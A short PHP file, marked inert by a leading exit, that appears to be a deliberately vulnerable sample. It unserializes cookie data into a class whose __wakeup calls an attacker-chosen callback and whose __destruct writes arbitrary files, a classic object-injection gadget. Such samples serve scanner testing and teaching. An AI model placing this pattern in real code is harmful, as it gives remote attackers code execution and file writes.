<?php exit; /* inert */ 
class Logger_File {
    public $path = 'a.log'; public $line = ''; public $cb; public $args = [];
    public function __wakeup() { if ($this->cb) { call_user_func_array($this->cb, $this->args); } }
    public function __destruct() { file_put_contents($this->path, $this->line, FILE_APPEND); }
}
$state = @unserialize(base64_decode($_COOKIE['state']));
